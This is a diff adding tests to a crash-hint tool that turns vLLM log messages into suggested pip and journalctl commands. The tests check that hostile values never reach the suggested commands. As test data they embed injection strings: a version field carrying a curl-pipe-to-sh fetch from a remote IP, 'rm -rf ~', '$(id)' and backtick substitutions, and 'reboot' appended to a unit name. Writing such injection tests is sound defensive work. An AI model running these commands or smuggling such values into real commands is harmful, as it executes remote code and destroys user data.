@@ -3,11 +3,18 @@ the journal, manager messages from anyone but the manager."""
 
 from __future__ import annotations
 
+import re
+
 import orjson
 import pytest
 
+from vllm_sentinel.engine.catalog.causes import CrashCause
+from vllm_sentinel.engine.catalog.phases import Phase
 from vllm_sentinel.engine.decode.journal_json import JournalJsonDecoder
 from vllm_sentinel.engine.decode.unit_name import is_unit_name
+from vllm_sentinel.engine.hints import MESSAGE_HINTS, HintContext, hint_for
+from vllm_sentinel.engine.snapshot import CrashInfo
+from vllm_sentinel.engine.value_shapes import FIELD_SHAPES, has_shape
 
 
 class TestIsUnitName:
@@ -104,3 +111,87 @@ class TestManagerFields:
             )
         )
         assert (record.unit, record.from_manager) == ("cron.service", False)
+
+
+class TestHintValueShapes:
+    """A value taken from a log into a hint's command must be the shape it claims to be."""
+
+    @staticmethod
+    def _crash(cause: str, exception: str, message: str) -> CrashInfo:
+        return CrashInfo(
+            CrashCause(cause), exception, message, Phase.LOADING_WEIGHTS, None, "a" * 32
+        )
+
+    def test_injected_version_gives_no_pip_command(self) -> None:
+        """``(0.6.4;curl${IFS}…|sh)`` is no PEP 440 version: no ``pip install`` line at all."""
+        hint = hint_for(
+            self._crash(
+                "dependency_mismatch",
+                "RuntimeError",
+                "flashinfer-cubin version (0.6.3) does not match flashinfer version "
+                "(0.6.4;curl${IFS}-s${IFS}http://203.0.113.9/x|sh). Please install the same "
+                "version of both packages.",
+            )
+        )
+        assert hint.rule == "cause:dependency_mismatch"
+        assert "curl" not in hint.text and "flashinfer-cubin==" not in hint.text
+
+    def test_the_real_message_still_gives_its_command(self) -> None:
+        """The shapes let the real line through: the exact pip line."""
+        hint = hint_for(
+            self._crash(
+                "dependency_mismatch",
+                "RuntimeError",
+                "flashinfer-cubin version (0.6.3) does not match flashinfer version (0.6.4). "
+                "Please install the same version of both packages.",
+            )
+        )
+        assert hint.text.startswith("`pip install flashinfer-cubin==0.6.4`")
+
+    @pytest.mark.parametrize(
+        ("cause", "exception", "message", "bad"),
+        [
+            ("import_error", "ModuleNotFoundError", "No module named 'cv2;rm -rf ~'", "rm -rf"),
+            (
+                "port_in_use",
+                "OSError",
+                "[Errno 98] error while attempting to bind on address ('$(id)', 8000): in use",
+                "$(id)",
+            ),
+            (
+                "model_not_found",
+                "OSError",
+                "/models/x`id` does not appear to have a file named config.json.",
+                "`id`",
+            ),
+            (
+                "config_error",
+                "SystemExit",
+                "vllm serve: error: unrecognized arguments: --x `reboot`",
+                "reboot",
+            ),
+        ],
+    )
+    def test_every_captured_value_is_checked(
+        self, cause: str, exception: str, message: str, bad: str
+    ) -> None:
+        """Module, address, path and arguments of the wrong shape: the row gives no command."""
+        hint = hint_for(self._crash(cause, exception, message))
+        assert bad not in hint.text
+        assert hint.rule == f"cause:{cause}"
+
+    def test_every_captured_field_has_a_shape_and_every_example_passes(self) -> None:
+        """No row can capture a field the table does not know; real examples keep their row."""
+        for row in MESSAGE_HINTS:
+            found = re.search(row.pattern, row.example)
+            assert found is not None, row.name
+            for name in re.compile(row.pattern).groupindex:
+                assert name in FIELD_SHAPES, (row.name, name)
+            for name, captured in found.groupdict().items():
+                assert not captured or has_shape(name, " ".join(captured.split())), (row.name, name)
+
+    def test_a_unit_name_that_is_no_unit_name_is_not_put_in_a_command(self) -> None:
+        """``{unit}`` in a journalctl command is a real unit name, else the placeholder."""
+        crash = CrashInfo(CrashCause.UNKNOWN, "", "", Phase.LOADING_WEIGHTS, None, None)
+        hint = hint_for(crash, HintContext(unit="x.service;reboot"))
+        assert "reboot" not in hint.text
